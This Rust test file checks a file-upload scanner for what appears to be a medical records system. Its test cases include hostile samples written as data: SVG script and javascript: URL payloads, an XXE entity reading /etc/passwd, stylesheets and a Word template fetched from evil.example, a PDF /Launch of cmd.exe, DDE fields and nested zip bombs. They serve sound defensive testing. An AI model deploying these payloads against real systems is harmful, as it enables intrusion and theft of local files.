//! Attacks by their numbers in the threat list, and honest files beside them: a refusal of those is as bad as a miss.

mod costs;
mod producers;
mod samples;

use std::io::Cursor;

use proptest::prelude::*;

use self::samples::{base64, deflated, gzip, pdf, pe, tar, zip, zip_stored};
use super::harmless_test_file as eicar;
use super::{Limits, RuleScanner};
use crate::domain::id::FileId;
use crate::domain::verdict::{Finding, Verdict};
use crate::scan::{ScanError, Scanner, Subject};

const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

fn verdict_with(limits: Limits, declared: &str, bytes: &[u8]) -> Verdict {
    let subject = Subject { file: FileId::from_bytes([3; 16]), sha256: [0; 32], declared, size: bytes.len() as u64 };
    RuleScanner::new(limits).scan(&subject, &mut Cursor::new(bytes)).expect("a verdict")
}

fn found(declared: &str, bytes: &[u8]) -> Option<Finding> {
    verdict_with(Limits::default(), declared, bytes).finding
}

fn docx(more: &[(&str, &[u8])]) -> Vec<u8> {
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>"#),
        ("_rels/.rels", br#"<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/" TargetMode="External"/></Relationships>"#),
        ("word/document.xml", br#"<?xml version="1.0"?><w:document xmlns:w="x"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> PAGE </w:instrText><w:t>Add the address</w:t></w:r></w:p></w:body></w:document>"#),
    ];
    parts.extend_from_slice(more);
    zip(&parts)
}

#[test]
fn honest_files_are_clean() {
    let mut dicom = vec![0; 128];
    dicom.extend_from_slice(b"DICM\x02\0\0\0UL\x04\0\xc0\0\0\0");
    let cda = br#"<?xml version="1.0" encoding="UTF-8"?><?xml-stylesheet type="text/xsl" href="CDA.xsl"?><ClinicalDocument xmlns="urn:hl7-org:v3" once="1"><title>JavaScript: onload</title></ClinicalDocument>"#;
    let page = deflated(b"BT /F1 12 Tf (JavaScript /JS <</S /Launch>>) Tj ET");
    let object_stream = deflated(b"5 0 6 20 <</Type /Page>> <</Type /Font>>");
    let honest_pdf = pdf(&[
        ("<</Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit]>>", None),
        ("<</Filter /FlateDecode>>", Some(&page)),
        ("<</Title (about /JavaScript and /JS)>>", None),
        ("<< >>", Some(b"BT (/JS in plain content) Tj ET")),
        ("<</Type /ObjStm /N 2 /First 9 /Filter /FlateDecode>>", Some(&object_stream)),
    ]);
    let svg = br##"<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns "http://www.w3.org/2000/svg">]><svg xmlns="&ns;"><a href="#x"><path d="M0 0"/></a></svg>"##;
    let in_cda = [
        b"<?xml version='1.0'?><ClinicalDocument><text representation='B64'>\n".as_slice(),
        base64(&honest_pdf).as_bytes(),
        b"</text></ClinicalDocument>",
    ]
    .concat();
    for (declared, bytes) in [
        ("application/pdf", honest_pdf.clone()),
        ("application/pdf", [b"\r\n\r\n".as_slice(), &honest_pdf].concat()),
        ("image/png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01".to_vec()),
        ("image/jpeg", b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01".to_vec()),
        ("image/tiff", b"II*\0\x08\0\0\0\0\0".to_vec()),
        ("text/plain; charset=utf-8", "Befund für Jürgen Müller, 陈. <20 mg, see <b>\r\n".into()),
        ("text/plain", b"MZ, 54 y, seen today".to_vec()),
        ("text/plain", b"<John Smith> wrote a letter".to_vec()),
        ("text/xml", cda.to_vec()),
        ("application/hl7-cda+xml", cda.to_vec()),
        ("text/xml", in_cda),
        ("application/fhir+json", b" {\"resourceType\":\"Patient\"}".to_vec()),
        ("application/dicom", dicom),
        (DOCX, docx(&[("word/media/image1.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR")])),
        ("application/zip", zip(&[("a.pdf", &honest_pdf), ("b/letter.docx", &docx(&[]))])),
        ("application/zip", zip(&[])),
        ("application/gzip", gzip(b"a letter")),
        ("application/gzip", gzip(&tar(&[("a.txt", b"text")]))),
        ("image/svg+xml", svg.to_vec()),
        ("application/octet-stream", vec![0xa5; 300_000]),
        ("text/plain", Vec::new()),
    ] {
        let verdict = verdict_with(Limits::default(), declared, &bytes);
        assert_eq!(
            verdict.finding,
            None,
            "{declared}: {:?} {}",
            String::from_utf8_lossy(&bytes[..bytes.len().min(60)]),
            verdict.place
        );
    }
}

#[test]
fn a128_bytes_of_another_kind_than_declared() {
    let mismatch = Some(Finding::TypeMismatch);
    assert_eq!(found("application/pdf", &pe()), Some(Finding::Executable));
    assert_eq!(found("application/pdf", b"<!DOCTYPE html><html><body>Hi</body></html>"), mismatch);
    assert_eq!(found("application/pdf", &zip(&[("a.txt", b"x")])), mismatch);
    assert_eq!(found("text/plain", b"<html><body>Hi</body></html>"), mismatch);
    assert_eq!(found("text/plain", b"text\0with nul"), mismatch);
    assert_eq!(found("text/xml", b"no markup"), mismatch);
    assert_eq!(found("image/png", b"\xff\xd8\xff\xe0\0\x10JFIF\0"), mismatch);
    assert_eq!(found("application/dicom", &[0; 200]), mismatch);
    assert_eq!(found(DOCX, &zip(&[("a.txt", b"x")])), mismatch);
    assert_eq!(found("application/x-unheard-of", b"<html></html>"), mismatch);
    assert_eq!(found("video/mp4", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), mismatch);
}

#[test]
fn a129_polyglots() {
    let mismatch = Some(Finding::TypeMismatch);
    let archive = zip(&[("a.txt", b"x")]);
    let gif = [b"GIF89a\x01\0\x01\0\0\0\0;".as_slice(), &archive].concat();
    assert_eq!(found("image/gif", &gif), mismatch);
    let document = pdf(&[("<</Type /Catalog>>", None)]);
    assert_eq!(found("application/pdf", &[document.as_slice(), &archive].concat()), mismatch);
    assert_eq!(found("application/pdf", &[b"<html>".as_slice(), &document].concat()), mismatch);
    assert_eq!(found("image/png", &[b"\x89PNG\r\n\x1a\n".as_slice(), &document].concat()), mismatch);
    let mut dicom = pe();
    dicom.resize(128, 0);
    dicom.extend_from_slice(b"DICM");
    assert_eq!(found("application/dicom", &dicom), Some(Finding::Executable), "PE in the preamble of DICOM");
}

#[test]
fn a129_programs_of_any_declared_type() {
    for program in [
        pe(),
        b"\x7fELF\x02\x01\x01".to_vec(),
        b"\xca\xfe\xba\xbe\0\0\0\x34".to_vec(),
        b"#!/bin/sh\n".to_vec(),
        b"\xcf\xfa\xed\xfe\x07".to_vec(),
    ] {
        assert_eq!(found("application/octet-stream", &program), Some(Finding::Executable));
        assert_eq!(
            found("application/zip", &zip(&[("ok.txt", b"x"), ("photo.jpg", &program)])),
            Some(Finding::Executable)
        );
    }
    assert_eq!(found("application/zip", &zip(&[("letter.pdf.js", b"var a = 1")])), Some(Finding::Executable));
    let tarred = gzip(&tar(&[("a", b"x"), ("b", &pe())]));
    assert_eq!(found("application/gzip", &tarred), Some(Finding::Executable));
}

#[test]
fn a130_script_in_markup() {
    let svg = |inside: &str| format!("<svg xmlns='http://www.w3.org/2000/svg'>{inside}</svg>");
    for attack in [
        svg("<script>alert(1)</script>"),
        svg("<s:SCRIPT xmlns:s='x'/>"),
        svg("<a xlink:href='java&#x0A;script:alert(1)'/>"),
        svg("<a href=' &#106;avascript&colon;alert(1)'/>"),
        svg("<!--><script>alert(1)</script>-->"),
        svg("<animate values='x;javascript:alert(1)'/>"),
        "<svg/onload=alert(1)>".to_owned(),
        "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>".to_owned(),
        "<!DOCTYPE svg SYSTEM 'http://evil.example/x.dtd'><svg/>".to_owned(),
        "<?xml-stylesheet type='text/xsl' href='https://evil.example/x.xsl'?><svg/>".to_owned(),
        "<?xml-stylesheet type='text/xsl' href='#s'?><svg/>".to_owned(),
    ] {
        assert_eq!(found("image/svg+xml", attack.as_bytes()), Some(Finding::ActiveScript), "{attack}");
        let wide: Vec<u8> = std::iter::once(0xfeff).chain(attack.encode_utf16()).flat_map(u16::to_le_bytes).collect();
        assert_eq!(found("image/svg+xml", &wide), Some(Finding::ActiveScript), "UTF-16: {attack}");
    }
    let cda = b"<?xml version='1.0'?><?xml-stylesheet href='javascript:x'?><ClinicalDocument/>";
    assert_eq!(found("text/xml", cda), Some(Finding::ActiveScript));
    assert_eq!(found("text/html", b"Hi <p onclick=x>"), Some(Finding::ActiveScript), "a page in pieces");
    assert_eq!(found("text/html", b"<html><p onclick=x>"), Some(Finding::ActiveScript));
    assert_eq!(found("text/xml", b"<?xml version='1.0' encoding='UTF-7'?><a/>"), Some(Finding::Unreadable));
}

#[test]
fn a130_actions_in_pdf() {
    let active = Some(Finding::ActiveScript);
    let packed = deflated(b"5 0 <</S /JavaScript /JS (app.alert(1))>>");
    let embedded = deflated(&pe());
    for (dictionary, stream, expected) in [
        ("<</S /JavaScript /JS (x)>>", None, active),
        ("<</S /J#61vaScript>>", None, active),
        ("<</S /Launch /F (cmd.exe)>>", None, active),
        ("<</AA <</O 5 0 R>>>>", None, active),
        ("<</Subtype /RichMedia>>", None, active),
        ("<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode>>", Some(packed.as_slice()), active),
        ("<</Type 9 0 R /N 1 /First 4 /Filter [/FlateDecode]>>", Some(&packed), active),
        ("<</Type /ObjStm /N 1 /First 4 /Filter /LZWDecode>>", Some(&packed), Some(Finding::Unreadable)),
        ("<< >>", Some(b"xx 7 0 obj <</S /JavaScript>> endobj".as_slice()), active),
        ("<</Title (open ( 7 0 obj <</JS (x)>> >>", None, active),
        ("% 7 0 obj <</JS (x)>>", None, active),
        ("<</Type /EmbeddedFile /Filter /FlateDecode>>", Some(&embedded), Some(Finding::Executable)),
        ("<</Filter /FlateDecode>>", Some(&embedded), Some(Finding::Executable)),
        ("<</Encrypt 5 0 R>>", None, Some(Finding::Encrypted)),
    ] {
        assert_eq!(found("application/pdf", &pdf(&[(dictionary, stream)])), expected, "{dictionary}");
    }
}

#[test]
fn a131_office_macros_templates_and_dde() {
    let template = br#"<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
    let types = br#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#;
    let dde = br#"<w:document><w:fldChar w:fldCharType="begin"/><w:instrText xml:space="preserve"> DD</w:instrText><w:instrText>EAUTO c:\\x</w:instrText></w:document>"#;
    assert_eq!(found(DOCX, &docx(&[("word/vbaProject.bin", b"\xd0\xcf")])), Some(Finding::Macro));
    assert_eq!(found(DOCX, &docx(&[("word/_rels/settings.xml.rels", template)])), Some(Finding::Macro));
    assert_eq!(found(DOCX, &docx(&[("types.xml", types)])), Some(Finding::Macro));
    assert_eq!(found(DOCX, &docx(&[("word/d.xml", dde)])), Some(Finding::ActiveScript));
    assert_eq!(found(DOCX, &docx(&[("word/other.dat", &samples::compound("VBA"))])), Some(Finding::Macro), "renamed");
    assert_eq!(found("application/msword", &samples::compound("Macros")), Some(Finding::Macro));
    assert_eq!(found("application/msword", &samples::compound("WordDocument")), None);
    assert_eq!(found(DOCX, &samples::compound("EncryptedPackage")), Some(Finding::Encrypted));
}

#[test]
fn a132_eicar_wherever_it_is() {
    let eicar = eicar();
    let malware = Some(Finding::Malware);
    assert_eq!(eicar.len(), 68);
    assert_eq!(found("text/plain", &eicar), malware);
    assert_eq!(found("application/octet-stream", &[vec![b' '; 10 << 20], eicar.clone()].concat()), malware);
    for before in 65_536 - 68..=65_536 {
        assert_eq!(
            found("text/plain", &[vec![b'a'; before], eicar.clone()].concat()),
            malware,
            "across a border, {before}"
        );
    }
    assert_eq!(found("application/zip", &zip(&[("a.txt", &eicar)])), malware);
    assert_eq!(found("application/gzip", &gzip(&tar(&[("a", &eicar)]))), malware);
    assert_eq!(found(DOCX, &docx(&[("word/x.bin", &eicar)])), malware);
    let wrapped = format!("<?xml version='1.0'?><a value=\"{}\"/>", base64(&[eicar.as_slice(), &[b' '; 20]].concat()));
    assert_eq!(found("text/xml", wrapped.as_bytes()), malware);
}

#[test]
fn a132_eicar_in_a_zip_in_a_zip() {
    let bytes = zip(&[("first.txt", b"x"), ("secret name.zip", &zip(&[("a.txt", b"x"), ("b.txt", &eicar())]))]);
    let verdict = verdict_with(Limits::default(), "application/zip", &bytes);
    assert_eq!((verdict.finding, verdict.place.as_str()), (Some(Finding::Malware), "entry 2, level 2"));
    let digest = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, &bytes);
    assert_eq!(verdict.sha256, digest.as_ref(), "of the whole file, also after an early end");
}

#[test]
fn a133_archive_bombs() {
    let bomb = Some(Finding::ArchiveBomb);
    let mut nested = zip(&[("a.txt", b"x")]);
    for _ in 0..20 {
        nested = zip_stored(&[("n.zip", &nested)]);
    }
    assert_eq!(found("application/zip", &nested), bomb, "20 deep");
    let zeros = vec![0; 50 << 20];
    assert_eq!(found("application/zip", &zip(&[("z", &zeros)])), bomb, "ratio");
    assert_eq!(found("application/gzip", &gzip(&zeros)), bomb);
    let few = Limits { entries: 3, ..Limits::default() };
    assert_eq!(
        verdict_with(few, "application/zip", &zip(&[("a", b""), ("b", b""), ("c", b""), ("d", b"")])).finding,
        bomb
    );
    let small = Limits { unpacked: 1000, ..Limits::default() };
    assert_eq!(verdict_with(small, "application/zip", &zip(&[("a", &[7; 1001])])).finding, bomb);
    let mut lies = zip(&[("a", &[7; 400])]);
    lies[22..26].copy_from_slice(&0xf000_0000u32.to_le_bytes());
    assert_eq!(found("application/zip", &lies), bomb, "4 GB declared");
    let mut lies = zip(&[("a", &[7; 400])]);
    lies[22] = 1;
    assert_eq!(found("application/zip", &lies), Some(Finding::Unreadable), "smaller than it is");
    assert_eq!(found("application/zip", &samples::overlapping()), bomb);
}

#[test]
fn a134_encrypted_sealed_and_damaged_archives() {
    let mut locked = zip(&[("a.txt", b"x")]);
    locked[6] |= 1;
    assert_eq!(found("application/zip", &locked), Some(Finding::Encrypted));
    let whole = zip(&[("a.txt", b"some text that is here")]);
    assert_eq!(found("application/zip", &whole[..whole.len() / 2]), Some(Finding::Unreadable));
    assert_eq!(found("application/zip", &[whole.as_slice(), b"more"].concat()), Some(Finding::Unreadable));
    for sealed in [&b"Rar!\x1a\x07\x01\0"[..], b"7z\xbc\xaf\x27\x1c\0\x04", b"\xfd7zXZ\0\0", b"BZh91AY&SY"] {
        assert_eq!(found("application/octet-stream", sealed), Some(Finding::Unreadable));
    }
}

#[test]
fn a135_another_length_than_recorded_is_no_verdict() {
    let subject = Subject { file: FileId::from_bytes([3; 16]), sha256: [0; 32], declared: "text/plain", size: 5 };
    let error = RuleScanner::default().scan(&subject, &mut Cursor::new(b"four")).expect_err("no verdict");
    assert_eq!((&error, error.retry()), (&ScanError::Size { recorded: 5, read: 4 }, false));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn any_bytes_get_a_verdict(start in 0usize..8, bytes in proptest::collection::vec(any::<u8>(), 0..2000)) {
        let starts: [&[u8]; 8] = [b"", b"%PDF-1.7\n1 0 obj <<", b"PK\x03\x04", b"<svg ", b"\x1f\x8b\x08\0", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\xff\xfe<\0", b"{\\rtf1"];
        let bytes = [starts[start], &bytes].concat();
        verdict_with(Limits::default(), "application/octet-stream", &bytes);
    }

    #[test]
    fn a_damaged_archive_gets_a_verdict(at in any::<prop::sample::Index>(), with in any::<u8>()) {
        let mut bytes = docx(&[("word/x.pdf", &pdf(&[("<</N 1>>", Some(b"x"))]))]);
        *at.get_mut(&mut bytes) = with;
        verdict_with(Limits::default(), DOCX, &bytes);
    }
}
